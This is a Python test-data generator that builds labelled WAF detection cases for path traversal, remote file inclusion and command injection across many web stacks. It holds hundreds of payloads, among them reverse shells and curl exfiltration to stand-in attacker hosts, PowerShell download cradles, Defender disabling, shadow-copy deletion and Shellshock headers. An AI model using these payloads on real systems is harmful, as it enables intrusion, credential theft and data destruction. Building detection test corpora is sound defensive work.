"""Blind examples for remote command execution, local file inclusion / path traversal and remote file
inclusion, written as a rule author writes a rule's positive regression tests from its title, by an author who
exploits real stacks: every payload is written for one stack (PHP: WordPress, Laravel, Drupal; Java: Spring,
Struts, Tomcat; .NET: IIS, ASP.NET; Node: Express; Python: Django, Flask; Ruby: Rails; Go; CGI scripts) and
carried the way that stack's parameters carry it (PHP array parameters a[]= and a[b]=, Java matrix parameters,
IIS %u encoding and ViewState-like form fields, Express qs nested objects and nested JSON keys, Django/Flask form
and JSON lists, Rails params[user][name]).

Families and sub-families (one sub-family per detection title):
- lfi: path-traversal-930100 (encoded /../), path-traversal-930110 (decoded /../), os-file-access,
  restricted-file-access, os-file-access-headers, path-traversal-triple-dot (/.../);
- rfi: rfi-url-ip-address, rfi-common-param-name, rfi-trailing-question-mark, rfi-off-domain-reference;
- rce: unix-command-injection-932100, unix-command-injection-932105, windows-command-injection-932110,
  windows-command-injection-932115, windows-powershell-command, unix-shell-expression, windows-for-if-command,
  direct-unix-command-execution, unix-shell-code, shellshock-932170 (headers), shellshock-932171 (arguments),
  restricted-file-upload, rce-bypass-technique, and the later titles unix-command-injection-no-evasion,
  unix-command-injection-evasion, unix-shell-alias-invocation, unix-shell-history-invocation,
  unix-command-injection-pipes, unix-short-commands, sqlite-system-command, smtp-command-execution,
  imap-command-execution, pop3-command-execution, windows-command-injection-evasion, unix-shell-code-headers,
  direct-unix-command-abs-path.

Placements: each payload is sent twice. Once to one of our real routes (query of /api/users, the form of
/admin/users/search with csrf_token, JSON of /api/users, a cookie, User-Agent, Referer, another header, a parameter
name, an XML body, a multipart field or file name, the URL path), and once the way a WAF's regression suite sends it
(placements prefixed "rs-"): to paths that are not our routes (/, /index.php, /get, /post, /search, /api/v1/items,
/cgi-bin/test.cgi) with arbitrary parameter names (foo, var, x, test, id, arg1), as a query string, a form body, a
JSON body, an XML body, a raw form-typed body that is not key=value, or in the User-Agent, Referer, a custom header
or a cookie. The benign half carries the same words innocently (Slack messages and bios about shells, files and
URLs, searches, names and addresses, public links, upload names, browser headers, settings forms).

Authorship and independence: written from general knowledge of each attack family and the detection titles alone
(no rule, ruleset regression test or public payload list was read), measured once on unchanged code, and not
changed after the measurement. Deterministic (one seeded random source for tokens).
"""

from __future__ import annotations

import json
import random
import urllib.parse
from collections.abc import Iterator
from dataclasses import dataclass
from typing import Any
from xml.sax.saxutils import escape

from .family_gen_blind_php import chat_and_bio, links_and_prose
from .records import numbered, print_records

NAME = "hundredtwentyfirst"

BROWSER_UA = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 " \
             "Safari/537.36"
SUITE_UA = "curl/8.5.0"


@dataclass(frozen=True)
class P:
    """One payload: the stack it is written for, the string, whether it is already URL-encoded (then it goes into
    URLs and form bodies verbatim), and for header titles the header that carries it."""

    stack: str
    payload: str
    raw: bool = False
    header: str = ""


@dataclass(frozen=True)
class Title:
    category: str
    sub: str
    kind: str   # any | header | upload | pair | crlf | args
    payloads: list[P]


# ---------------------------------------------------------------------------------------------------------------
# LFI
# ---------------------------------------------------------------------------------------------------------------
T930100 = [  # Path Traversal Attack (/../), encoded forms
    P("php", "..%2f..%2f..%2f..%2fetc%2fpasswd", raw=True),  # PHP/WordPress plugin: include($_GET['page'])
    P("java", "%2e%2e/%2e%2e/%2e%2e/WEB-INF/web.xml", raw=True),  # Java/Tomcat: getResource(request param)
    P("java", "..%c0%af..%c0%af..%c0%afetc%c0%afpasswd", raw=True),  # Java/JBoss: overlong UTF-8 solidus
    P("dotnet", "..%5c..%5c..%5cwindows%5cwin.ini", raw=True),  # .NET/IIS: Server.MapPath(Request["f"])
    P("dotnet", "%u002e%u002e%u2215%u002e%u002e%u2215web.config", raw=True),  # .NET/IIS: %u dots, division slash
    P("php", "%252e%252e%252f%252e%252e%252fwp-config.php", raw=True),  # PHP/WordPress: urldecode() twice
    P("node", "%2e%2e%2f%2e%2e%2f%2e%2e%2fapp%2f.env", raw=True),  # Node/Express: res.sendFile(decoded)
    P("python", "..%252f..%252f..%252fetc%252fshadow", raw=True),  # Python/Flask: send_file(unquote(name))
    P("go", ".%2e/.%2e/.%2e/etc/hosts", raw=True),  # Go: http.ServeFile with PathUnescape
    P("cgi", "%2e%2e%5c%2e%2e%5c%2e%2e%5cboot.ini", raw=True),  # CGI on Windows Apache: open($q->param('f'))
    P("ruby", "..%c1%9c..%c1%9cconfig%c1%9cdatabase.yml", raw=True),  # Ruby/Rails: overlong backslash
    P("java", "..%ef%bc%8f..%ef%bc%8fWEB-INF%ef%bc%8fweb.xml", raw=True),  # Java/Spring: fullwidth solidus
]

T930110 = [  # Path Traversal Attack (/../), decoded forms
    P("php", "../../../../../../etc/passwd"),  # PHP/Laravel: view(request('tpl')) file loader
    P("php", "....//....//....//etc/passwd"),  # PHP/WordPress: str_replace('../', '') bypass
    P("dotnet", "..\\..\\..\\..\\windows\\win.ini"),  # .NET/ASP.NET: Path.Combine(root, Request.Form["f"])
    P("java", "/..;/..;/manager/html"),  # Java/Tomcat: path parameter normalisation
    P("node", "../../../../proc/self/environ"),  # Node/Express: res.sendFile(path.join(dir, req.query.f))
    P("python", "../../../../app/settings.py"),  # Python/Django: open(os.path.join(MEDIA_ROOT, name))
    P("ruby", "../../../../config/secrets.yml"),  # Ruby/Rails: render file: params[:page]
    P("go", "/static/../../../etc/hosts"),  # Go: filepath.Join without Clean check
    P("cgi", "..//..//..//etc//passwd"),  # CGI/Perl: open(F, "/var/www/data/$file")
    P("java", "/..\\..\\..\\conf/tomcat-users.xml"),  # Java/Tomcat on Windows: mixed separators
    P("node", "..././..././..././etc/passwd"),  # Node/Express: replace(/\.\.\//g, '') bypass
    P("php", "../../../wp-config.php%00.png", raw=True),  # PHP 5/Drupal 7: NUL byte truncation
]

T930120 = [  # OS File Access Attempt
    P("php", "/etc/passwd"),  # PHP/WordPress: download.php?file=
    P("php", "php://filter/convert.base64-encode/resource=/etc/shadow"),  # PHP/Laravel: include with wrapper
    P("java", "file:///etc/hosts"),  # Java/Spring: ResourceLoader.getResource(param)
    P("dotnet", "C:\\Windows\\System32\\drivers\\etc\\hosts"),  # .NET/IIS: File.ReadAllText(param)
    P("dotnet", "c:/boot.ini"),  # .NET/IIS: Response.WriteFile(param)
    P("node", "/proc/self/environ"),  # Node/Express: fs.readFile(req.query.f)
    P("python", "/root/.ssh/id_rsa"),  # Python/Flask: send_file(request.args['p'])
    P("ruby", "/home/deploy/.bash_history"),  # Ruby/Rails: send_file params[:path]
    P("go", "/proc/self/cmdline"),  # Go: os.ReadFile(r.FormValue("path"))
    P("cgi", "/etc/group"),  # CGI/Perl: open(FH, $q->param('file'))
    P("php", "/var/log/apache2/access.log"),  # PHP/Drupal: include for log poisoning
    P("python", "/etc/mysql/my.cnf"),  # Python/Django: FileResponse(open(path))
]

T930130 = [  # Restricted File Access Attempt
    P("php", "/.env"),  # PHP/Laravel: the app's .env
    P("php", "wp-config.php"),  # PHP/WordPress: file manager plugin ?file=
    P("php", ".htaccess"),  # PHP/Drupal: theme file editor
    P("go", ".git/config"),  # Go: http.FileServer over the repository checkout
    P("python", ".svn/entries"),  # Python/Django: static serve of a Subversion checkout
    P("dotnet", "web.config"),  # .NET/IIS: download.aspx?file=
    P("java", "WEB-INF/web.xml"),  # Java/Spring: ServletContext.getResourceAsStream(param)
    P("ruby", "config/master.key"),  # Ruby/Rails: send_file Rails.root.join(params[:f])
    P("node", ".npmrc"),  # Node/Express: express.static with dotfiles: 'allow'
    P("php", ".htpasswd"),  # PHP: readfile($_GET['f'])
    P("node", ".DS_Store"),  # Node/Express: static directory of a Mac upload
    P("python", ".aws/credentials"),  # Python/Flask: send_from_directory(home, name)
]

T_OS_FILE_HEADERS = [  # OS File Access Attempt in REQUEST_HEADERS (later title)
    P("cgi", "https://app.example.com/download?file=/etc/passwd", header="Referer"),  # CGI: logs Referer
    P("dotnet", "/windows/win.ini", header="X-Original-URL"),  # .NET/IIS: URL Rewrite honours X-Original-URL
    P("java", "/etc/shadow", header="X-Rewrite-URL"),  # Java/Tomcat behind a rewrite proxy
    P("php", "../../../../etc/passwd", header="Cookie"),  # PHP/Laravel: locale cookie into a file path
    P("node", "/proc/self/environ", header="X-Template"),  # Node/Express: template name from a header
    P("python", "/etc/passwd", header="X-Forwarded-Path"),  # Python/Flask: path from a proxy header
    P("ruby", "../../../../../../../../etc/passwd{{", header="Accept"),  # Ruby/Rails: render file: via Accept
    P("go", "file:///etc/hosts", header="Referer"),  # Go: fetches the Referer for link previews
    P("cgi", "/etc/shadow", header="X-Forwarded-For"),  # CGI/Perl: REMOTE_ADDR from X-Forwarded-For
    P("dotnet", "c:\\boot.ini", header="User-Agent"),  # .NET/IIS: browser-capabilities file by UA
    P("php", "<?php include('/etc/passwd'); ?>", header="User-Agent"),  # PHP: access-log poisoning
]

T_TRIPLE_DOT = [  # Path Traversal Attack (/../) or (/.../) (later title)
    P("php", ".../.../.../etc/passwd"),  # PHP/WordPress: str_replace('..', '') leaves ../
    P("dotnet", "...\\...\\...\\windows\\win.ini"),  # .NET/IIS: old IIS dot-dot-dot handling
    P("java", "/.../.../WEB-INF/web.xml"),  # Java/Tomcat: custom filter stripping one dot
    P("node", ".../...//.../...//etc/passwd"),  # Node/Express: replace('..', '') filter
    P("python", "/static/.../.../.../etc/shadow"),  # Python/Flask: static route with a custom normaliser
    P("go", "..../..../..../etc/hosts"),  # Go: strings.Replace(p, "..", "", 1)
    P("ruby", "....\\....\\config\\secrets.yml"),  # Ruby/Rails on Windows: backslash separators
    P("cgi", ".../.../.../etc/group"),  # CGI/Perl: s/\.\.//g filter
    P("php", ".../...//.../...//wp-config.php"),  # PHP/Drupal: preg_replace('/\.\.\//', '')
    P("dotnet", "%2e%2e%2e/%2e%2e%2e/web.config", raw=True),  # .NET/IIS: encoded triple dot
    P("java", "..../..../..../conf/server.xml"),  # Java/Struts: four dots through a one-pass filter
]

# ---------------------------------------------------------------------------------------------------------------
# RFI
# ---------------------------------------------------------------------------------------------------------------
T931100 = [  # Possible RFI Attack: URL Parameter using IP Address
    P("php", "http://203.0.113.45/shell.txt"),  # PHP: include($_GET['page'] . '.php') with allow_url_include
    P("php", "https://198.51.100.7/wso.php"),  # PHP/WordPress: plugin loading a remote skin
    P("php", "ftp://203.0.113.45/pub/r57.txt"),  # PHP: include over ftp://
    P("java", "http://192.0.2.10:8080/evil.jsp"),  # Java/JSP: <c:import url="${param.u}"/>
    P("dotnet", "http://203.0.113.9/payload.aspx"),  # .NET: Server.Execute of a fetched page
    P("node", "http://[2001:db8::10]/m.js"),  # Node/Express: import(req.query.module)
    P("python", "http://192.0.2.55:8000/tpl.html"),  # Python/Flask: render_template_string(requests.get(u))
    P("ruby", "ftps://198.51.100.9/erb.txt"),  # Ruby/Rails: ERB.new(URI.open(params[:tpl]).read)
    P("go", "https://203.0.113.200/config.yaml"),  # Go: template.ParseFiles after http.Get
    P("cgi", "http://192.0.2.33/cmd.pl"),  # CGI/Perl: require LWP::Simple::get($url)
    P("php", "http://3405803821/shell.txt"),  # PHP: decimal IPv4 address
    P("php", "file://203.0.113.45/share/x.php"),  # PHP on Windows: UNC-style file URL
]

T931110 = [  # Possible RFI Attack: Common RFI Vulnerable Parameter Name used w/URL Payload
    P("php", "mosConfig_absolute_path=http://attacker.example/c99.txt?"),  # PHP/Mambo-Joomla 1.0 component
    P("php", "_CONF[path]=http://attacker.example/shell.txt?"),  # PHP/Geeklog: register_globals array
    P("php", "_SERVER[DOCUMENT_ROOT]=http://attacker.example/r57.txt?"),  # PHP: register_globals superglobal
    P("php", "GALLERY_BASEDIR=http://attacker.example/inc.txt?"),  # PHP/Gallery 1.x
    P("php", "path[docroot]=http://attacker.example/x.txt"),  # PHP: array parameter overwriting a path
    P("php", "appserv_root=http://attacker.example/id.txt"),  # PHP/AppServ
    P("php", "config[root_dir]=ftp://attacker.example/pub/x.txt"),  # PHP: config array via register_globals
    P("java", "template=https://attacker.example/evil.ftl"),  # Java/Spring: FreeMarker template by URL
    P("dotnet", "include=http://attacker.example/x.aspx"),  # .NET: Server.Execute(Request["include"])
    P("python", "template_url=https://attacker.example/t.j2"),  # Python/Flask: Jinja2 from a URL
    P("ruby", "page=http://attacker.example/erb.txt"),  # Ruby/Rails: render inline: open(params[:page])
    P("node", "module=https://attacker.example/m.js"),  # Node/Express: dynamic import(req.body.module)
]

T931120 = [  # Possible RFI Attack: URL Payload Used w/Trailing Question Mark Character (?)
    P("php", "http://attacker.example/shell.txt?"),  # PHP: include($_GET['p'] . '.php') suffix swallowed
    P("php", "https://attacker.example/c99.php??"),  # PHP/WordPress: double question mark
    P("php", "ftp://attacker.example/r57.txt?"),  # PHP: ftp wrapper
    P("java", "http://attacker.example/cmd.jsp?"),  # Java/JSP: <jsp:include page=...> suffix appended
    P("dotnet", "https://attacker.example/a.aspx?"),  # .NET: WebClient.DownloadString(u + ".ascx")
    P("node", "https://attacker.example/payload.js?"),  # Node/Express: fetch(u + '.js') then eval
    P("python", "http://attacker.example/t.html?"),  # Python/Django: urlopen(u + '.html') template
    P("ruby", "ftps://attacker.example/x.rb?"),  # Ruby/Rails: open-uri with a suffix
    P("go", "https://attacker.example/tmpl.txt?"),  # Go: http.Get(u + ".tmpl")
    P("cgi", "http://attacker.example/cmd.pl?"),  # CGI/Perl: do(get($u . '.pl'))
    P("php", "file://attacker.example/share/x.php?"),  # PHP on Windows: file URL to a share
    P("php", "HTTP://ATTACKER.EXAMPLE/SHELL.TXT?"),  # PHP: upper-case scheme
]

T931130 = [  # Possible RFI Attack: Off-Domain Reference/Link
    P("php", "https://attacker.example/wso.txt"),  # PHP/WordPress: theme include of a remote file
    P("php", "http://attacker.example:8080/inc/config.txt"),  # PHP/Drupal: module path from a parameter
    P("java", "ftp://anonymous@attacker.example/pub/Exploit.class"),  # Java/Spring: URLClassLoader from a param
    P("dotnet", "https://attacker.example/control.ascx"),  # .NET: LoadControl of a downloaded control
    P("node", "https://cdn.attacker.example/lib.js"),  # Node/Express: vm.runInNewContext(fetched)
    P("python", "https://attacker.example/tpl.j2"),  # Python/Flask: Jinja2 template from a URL
    P("ruby", "http://attacker.example/partial.erb"),  # Ruby/Rails: render inline of a fetched partial
    P("go", "https://attacker.example/plugin.so"),  # Go: plugin.Open after a download
    P("cgi", "http://attacker.example/lib.pl"),  # CGI/Perl: require of a fetched module
    P("php", "https://app.example.com.attacker.example/x.txt"),  # PHP/Laravel: look-alike host
    P("java", "https://attacker.example/evil.xsl"),  # Java/Struts: XSLT result from a URL parameter
    P("python", "file://attacker.example/share/x.py"),  # Python/Django on Windows: UNC file URL
]

# ---------------------------------------------------------------------------------------------------------------
# RCE (CRS 3.3 titles)
# ---------------------------------------------------------------------------------------------------------------
T932100 = [  # Unix Command Injection
    P("php", ";cat /etc/passwd"),  # PHP: shell_exec("ping -c1 " . $_GET['host'])
    P("php", "127.0.0.1; id"),  # PHP/WordPress: network tools plugin
    P("cgi", "|uname -a"),  # CGI/Perl: open(P, "lookup $name|")
    P("node", "x && wget http://203.0.113.5/s -O /tmp/s"),  # Node/Express: child_process.exec(`convert ${f}`)
    P("python", "a.png; curl http://attacker.example/x | sh"),  # Python/Flask: subprocess.run(cmd, shell=True)
    P("ruby", "file.txt`whoami`"),  # Ruby/Rails: `file #{params[:name]}`
    P("java", "8.8.8.8 || nc -e /bin/sh 203.0.113.5 4444"),  # Java/Spring: exec(new String[]{"sh","-c",cmd})
    P("go", "example.org%0aid", raw=True),  # Go: exec.Command("sh", "-c", "dig "+host), newline
    P("php", "1|ls -la /var/www"),  # PHP/Drupal: exec() in a custom module
    P("python", "x;ps aux"),  # Python/Django: os.system(f"zip {name}")
    P("node", "foo&&chmod 777 /tmp/x"),  # Node/Express: execSync in an upload handler
    P("cgi", "; perl -e 'print 1'"),  # CGI/Bash: eval of QUERY_STRING
]

T932105 = [  # Unix Command Injection (continued command list)
    P("php", ";ping -c 4 203.0.113.5"),  # PHP: system("nslookup " . $_POST['d'])
    P("cgi", "|telnet 203.0.113.5 23"),  # CGI/Perl: router admin page
    P("node", "& python3 -c 'import pty;pty.spawn(\"/bin/sh\")'"),  # Node/Express: exec with a user host
    P("python", "; rm -rf /tmp/cache"),  # Python/Flask: os.popen(cmd)
    P("ruby", "| tail -n 50 /var/log/auth.log"),  # Ruby/Rails: IO.popen("grep #{q} log")
    P("java", "&& tar czf /tmp/a.tgz /opt/app"),  # Java/Struts: Runtime.exec("sh -c ...")
    P("go", ";sudo -l"),  # Go: exec.Command("bash", "-c", input)
    P("php", "|useradd -o -u 0 backup2"),  # PHP/Laravel: Process::fromShellCommandline($input)
    P("dotnet", "; whoami"),  # .NET on Linux: Process.Start("/bin/sh", "-c " + arg)
    P("python", "`sleep 10`"),  # Python/Django: subprocess.check_output(shell=True)
    P("node", "; xterm -display 203.0.113.5:1"),  # Node/Express: exec(`ffmpeg -i ${f}`)
    P("cgi", "& nslookup x.attacker.example"),  # CGI/Bash: ping.cgi
]

T932110 = [  # Windows Command Injection
    P("dotnet", "& type C:\\inetpub\\wwwroot\\web.config"),  # .NET/IIS: Process.Start("cmd.exe", "/c ping " + h)
    P("dotnet", "| dir c:\\"),  # .NET/ASP.NET: cmd /c in a diagnostics page
    P("php", "127.0.0.1 & net user"),  # PHP/XAMPP on Windows: exec("ping " . $ip)
    P("java", "&& ipconfig /all"),  # Java/Tomcat on Windows: Runtime.exec("cmd /c ...")
    P("node", "| tasklist /v"),  # Node on Windows: child_process.exec uses cmd.exe
    P("python", "& systeminfo"),  # Python on Windows: subprocess(shell=True)
    P("dotnet", "&& net localgroup administrators attacker /add"),  # .NET/IIS: web admin tool
    P("php", "| certutil -urlcache -split -f http://203.0.113.5/x.exe x.exe"),  # PHP/WAMP: system()
    P("java", "& cmd.exe /c whoami"),  # Java/Spring on Windows
    P("ruby", "| reg query HKLM\\SOFTWARE"),  # Ruby/Rails on Windows: system(cmd)
    P("go", "& wmic process list brief"),  # Go on Windows: exec.Command("cmd", "/C", s)
    P("cgi", "|bitsadmin /transfer j http://203.0.113.5/a.exe c:\\a.exe"),  # CGI/Perl on IIS
]

T932115 = [  # Windows Command Injection (continued command list)
    P("dotnet", "& shutdown /s /t 0"),  # .NET/IIS: cmd /c with a user argument
    P("php", "|schtasks /create /tn x /tr c:\\x.exe /sc minute"),  # PHP/XAMPP: exec()
    P("java", "&& sc query"),  # Java/Tomcat on Windows
    P("node", "& netstat -ano"),  # Node on Windows: exec()
    P("python", "| findstr /s password *.config"),  # Python on Windows: os.system
    P("dotnet", "&& xcopy c:\\inetpub d:\\loot /s"),  # .NET/ASP.NET backup page
    P("ruby", "& rundll32.exe javascript:\"\\..\\mshtml,RunHTMLApplication \""),  # Ruby on Windows: system()
    P("go", "| nslookup attacker.example"),  # Go on Windows: cmd /C
    P("cgi", "&& regsvr32 /s /n /u /i:http://203.0.113.5/x.sct scrobj.dll"),  # CGI on IIS
    P("php", "& mshta http://203.0.113.5/x.hta"),  # PHP/WAMP: shell_exec()
    P("dotnet", "| wevtutil cl security"),  # .NET/IIS: cmd /c
    P("java", "& vssadmin delete shadows /all /quiet"),  # Java on Windows: ProcessBuilder("cmd", "/c", s)
]

T932120 = [  # Windows PowerShell Command Found
    P("dotnet", "powershell -nop -w hidden -c \"IEX (New-Object Net.WebClient).DownloadString("
                "'http://203.0.113.5/a.ps1')\""),  # .NET/IIS: Process.Start(arg)
    P("dotnet", "& powershell.exe -enc SQBFAFgAIAAoAGkAdwByACkA"),  # .NET/ASP.NET: cmd /c
    P("php", "| powershell Invoke-WebRequest -Uri http://203.0.113.5/x -OutFile c:\\x.exe"),  # PHP/XAMPP
    P("java", "&& powershell Get-ChildItem C:\\Users"),  # Java/Tomcat on Windows
    P("node", "; pwsh -c Get-Process"),  # Node on Linux with PowerShell Core
    P("python", "& powershell Start-Process calc"),  # Python on Windows
    P("dotnet", "Invoke-Expression (Get-Content c:\\temp\\x.txt)"),  # .NET: PowerShell.Create().AddScript(s)
    P("go", "| powershell Set-MpPreference -DisableRealtimeMonitoring $true"),  # Go on Windows
    P("ruby", "& powershell -ExecutionPolicy Bypass -File \\\\203.0.113.5\\s\\a.ps1"),  # Ruby on Windows
    P("dotnet", "Get-WmiObject Win32_Process | Select-Object Name"),  # .NET: runspace script from a form
    P("cgi", "& powershell [System.Net.Dns]::GetHostAddresses('x.attacker.example')"),  # CGI on IIS
    P("php", "| powershell Remove-Item -Recurse C:\\inetpub\\logs"),  # PHP on IIS: exec()
]

T932130 = [  # Unix Shell Expression Found
    P("php", "$(id)"),  # PHP: exec("convert " . $_GET['f'])
    P("node", "${HOME}"),  # Node/Express: execSync(`ls ${userDir}`) string built by a shell
    P("python", "$(cat /etc/passwd)"),  # Python/Flask: subprocess shell=True
    P("ruby", "<(curl -s http://attacker.example/x)"),  # Ruby/Rails: system("bash -c 'diff #{a} #{b}'")
    P("cgi", ">(nc 203.0.113.5 4444)"),  # CGI/Bash: process substitution
    P("java", "/bin/ca[t] /etc/pass[w]d"),  # Java/Spring: sh -c with bracket globs
    P("go", "/e[t]c/pa[s]swd"),  # Go: exec.Command("sh", "-c", "cat "+f)
    P("php", "$((1337*2))"),  # PHP/Laravel: arithmetic expansion through shell_exec
    P("node", "${PATH:0:1}bin${PATH:0:1}sh"),  # Node/Express: substring expansion to build /bin/sh
    P("python", "$(printf '\\x69\\x64')"),  # Python/Django: os.system
    P("dotnet", "$(uname -a)"),  # .NET on Linux: /bin/bash -c
    P("cgi", "${IFS}"),  # CGI/Bash: word splitting variable
]

T932140 = [  # Windows FOR/IF Command Found
    P("dotnet", "for /f \"tokens=*\" %i in ('whoami') do @echo %i"),  # .NET/IIS: cmd /c
    P("dotnet", "& for %a in (c:\\*) do type %a"),  # .NET/ASP.NET
    P("php", "|for /r c:\\ %f in (*.config) do @echo %f"),  # PHP/XAMPP on Windows: system()
    P("java", "&& if exist c:\\windows\\win.ini (type c:\\windows\\win.ini)"),  # Java/Tomcat on Windows
    P("node", "& if defined USERNAME echo %USERNAME%"),  # Node on Windows
    P("python", "& for /l %i in (1,1,255) do ping -n 1 10.0.0.%i"),  # Python on Windows
    P("dotnet", "if not exist c:\\temp\\x.txt echo x > c:\\temp\\x.txt"),  # .NET: cmd /c
    P("ruby", "&for /d %d in (c:\\users\\*) do dir %d"),  # Ruby on Windows
    P("go", "| if errorlevel 1 calc"),  # Go on Windows
    P("cgi", "&& FOR /F %%x IN ('dir /b') DO type %%x"),  # CGI batch script on IIS
    P("php", "IF EXIST c:\\xampp\\passwords.txt type c:\\xampp\\passwords.txt"),  # PHP/XAMPP
    P("java", "cmd /v:on /c for /f %x in ('hostname') do @echo !x!"),  # Java on Windows
]

T932150 = [  # Direct Unix Command Execution
    P("php", "cat /etc/passwd"),  # PHP: system($_GET['cmd'])
    P("cgi", "/bin/sh -c id"),  # CGI/Bash: eval "$QUERY_STRING"
    P("node", "wget http://203.0.113.5/x.sh -O- | sh"),  # Node/Express: exec(req.body.cmd)
    P("python", "python3 -c 'import os;os.system(\"id\")'"),  # Python/Flask: debug endpoint
    P("ruby", "ls -la /"),  # Ruby/Rails: system(params[:cmd])
    P("java", "nc -lvp 4444 -e /bin/bash"),  # Java/Spring: Runtime.exec(param)
    P("go", "curl -d @/etc/passwd http://attacker.example/"),  # Go: exec.Command("sh","-c",s)
    P("php", "/usr/bin/id"),  # PHP/Laravel: Process::run($cmd)
    P("node", "bash -c 'bash -i >& /dev/tcp/203.0.113.5/4444 0>&1'"),  # Node/Express
    P("python", "perl -e 'system(\"id\")'"),  # Python/Django: subprocess shell=True
    P("cgi", "uname -a"),  # CGI/Perl: `$cmd`
    P("dotnet", "busybox nc 203.0.113.5 4444 -e sh"),  # .NET on Linux: Process.Start("sh", "-c " + s)
]

T932160 = [  # Unix Shell Code Found
    P("php", "/bin/bash -i"),  # PHP: proc_open($_POST['c'])
    P("cgi", "/usr/bin/perl -e 'print 1'"),  # CGI/Perl
    P("node", "/bin/sh"),  # Node/Express: spawn(req.query.shell)
    P("python", "/usr/bin/python3 -m http.server"),  # Python/Flask
    P("ruby", "/usr/bin/env ruby -e 'p 1'"),  # Ruby/Rails
    P("java", "/bin/zsh -c id"),  # Java/Spring
    P("go", "/usr/bin/wget -q http://attacker.example/a"),  # Go
    P("php", "/bin/nc.traditional -e /bin/sh 203.0.113.5 1"),  # PHP/WordPress
    P("dotnet", "/bin/dash"),  # .NET on Linux
    P("node", "/usr/local/bin/node -e 'require(\"child_process\").execSync(\"id\")'"),  # Node/Express
    P("python", "/bin/busybox telnetd -l /bin/sh"),  # Python/Django
    P("cgi", "/usr/bin/curl file:///etc/shadow"),  # CGI/Bash
]

T932170 = [  # Shellshock (CVE-2014-6271) in headers
    P("cgi", "() { :; }; echo; /bin/id", header="User-Agent"),  # CGI/Apache mod_cgi: HTTP_USER_AGENT
    P("cgi", "() { :;}; /bin/bash -c 'cat /etc/passwd'", header="Referer"),  # CGI: HTTP_REFERER
    P("cgi", "() { ignored; }; /usr/bin/wget http://203.0.113.5/x", header="Cookie"),  # CGI: HTTP_COOKIE
    P("php", "() { :; }; /bin/sleep 5", header="X-Forwarded-For"),  # PHP-CGI calling bash via mail()
    P("cgi", "() { _; } >_[$($())] { echo; id; }", header="User-Agent"),  # CGI: variant of CVE-2014-6278
    P("python", "() { :; }; /bin/cat /etc/shadow", header="Accept-Language"),  # Python CGIHTTPServer + bash
    P("cgi", "() { :; }; /bin/bash -i >& /dev/tcp/203.0.113.5/4444 0>&1", header="X-Api-Key"),  # CGI
    P("cgi", "() { 0; }; ping -c 3 203.0.113.5", header="If-Modified-Since"),  # CGI/lighttpd mod_cgi
    P("cgi", "() { :; }; /usr/bin/env", header="X-Requested-With"),  # CGI/Bash
    P("ruby", "() { :; }; echo Content-Type: text/plain; echo; /bin/ls /", header="Accept"),  # Ruby CGI + bash
    P("php", "()   {  :; } ; /bin/uname -a", header="Referer"),  # PHP-CGI: extra whitespace
]

T932171 = [  # Shellshock (CVE-2014-6271) in arguments and file names
    P("cgi", "() { :; }; /bin/cat /etc/passwd"),  # CGI: query string into the environment
    P("php", "() { :;}; /bin/bash -c id"),  # PHP: putenv("X=".$_POST['x']); system('...')
    P("cgi", "() { ignored; }; /bin/uname -a"),  # CGI/Bash: form field exported
    P("python", "() { :; }; echo pwned"),  # Python/Flask: env passed to subprocess bash
    P("ruby", "() { 0; }; /usr/bin/id"),  # Ruby/Rails: ENV[params[:k]] = params[:v]
    P("node", "() { :; }; /bin/sleep 7"),  # Node/Express: spawn('bash', {env: req.query})
    P("java", "() { x; }; /bin/ls"),  # Java/Spring: ProcessBuilder.environment().putAll(params)
    P("go", "() { :; }; /usr/bin/curl http://203.0.113.5/p"),  # Go: cmd.Env from form values
    P("dotnet", "() { :; }; whoami"),  # .NET on Linux: ProcessStartInfo.Environment from a form
    P("cgi", "()  {  :; };  /bin/ping -c1 203.0.113.5"),  # CGI/Perl: wide spacing
    P("php", "() { :; }; /usr/bin/wget -O /tmp/s http://203.0.113.5/s"),  # PHP/WordPress: mail() and bash
]

T932180 = [  # Restricted File Upload Attempt
    P("php", ".htaccess"),  # PHP/WordPress: media upload
    P("php", ".user.ini"),  # PHP-FPM: per-directory ini upload
    P("dotnet", "web.config"),  # .NET/IIS: upload folder with handlers
    P("php", "wp-config.php"),  # PHP/WordPress: file manager plugin
    P("php", ".htpasswd"),  # PHP: Apache password file
    P("php", "settings.php"),  # PHP/Drupal: sites/default/settings.php
    P("node", ".env"),  # Node/Express: multer storage in the app root
    P("php", "config.yml"),  # PHP/Symfony: app/config/config.yml
    P("php", "local.xml"),  # PHP/Magento 1: app/etc/local.xml
    P("cgi", ".htdigest"),  # CGI/Apache: digest file
    P("dotnet", "Web.Config"),  # .NET/IIS: case-insensitive file system
    P("php", "default.settings.php"),  # PHP/Drupal: settings template
]

T932200 = [  # RCE Bypass Technique
    P("php", "c'a't /etc/passwd"),  # PHP: shell_exec with quotes inside a word
    P("php", "c\\at /etc/passwd"),  # PHP/Laravel: backslash inside a word
    P("cgi", "ca$@t /etc/passwd"),  # CGI/Bash: empty positional parameters
    P("node", "cat${IFS}/etc/passwd"),  # Node/Express: IFS instead of a space
    P("python", "/???/c?t /???/p?ss??"),  # Python/Flask: glob wildcards
    P("ruby", "w\"h\"o\"a\"m\"i"),  # Ruby/Rails: double quotes inside a word
    P("java", "/bin/c*t /e*c/p*d"),  # Java/Spring: star wildcards
    P("go", "who$()ami"),  # Go: empty command substitution
    P("dotnet", "u'n'a'm'e -a"),  # .NET on Linux
    P("php", "cat</etc/passwd"),  # PHP: input redirection instead of a space
    P("node", "{cat,/etc/passwd}"),  # Node/Express: brace expansion
    P("python", "$0<<<$'\\x69\\x64'"),  # Python/Django: here-string with ANSI-C quoting
]

# ---------------------------------------------------------------------------------------------------------------
# RCE (later titles)
# ---------------------------------------------------------------------------------------------------------------
T_NO_EVASION = [  # Unix Command Injection (command without evasion)
    P("php", "; id"),  # PHP: system("host " . $_GET['h'])
    P("node", "| whoami"),  # Node/Express: exec(`nslookup ${host}`)
    P("python", "&& uname -a"),  # Python/Flask: os.system
    P("ruby", "; env"),  # Ruby/Rails: `ping #{params[:ip]}`
    P("java", "|| hostname"),  # Java/Spring: sh -c
    P("go", "; ifconfig"),  # Go: exec.Command("sh", "-c", ...)
    P("cgi", "| last"),  # CGI/Perl: open with a pipe
    P("dotnet", "; getent passwd"),  # .NET on Linux: /bin/sh -c
    P("php", "& ps -ef"),  # PHP/Drupal
    P("python", "; crontab -l"),  # Python/Django
    P("node", "| mount"),  # Node/Express
    P("cgi", "; dmesg"),  # CGI/Bash
]

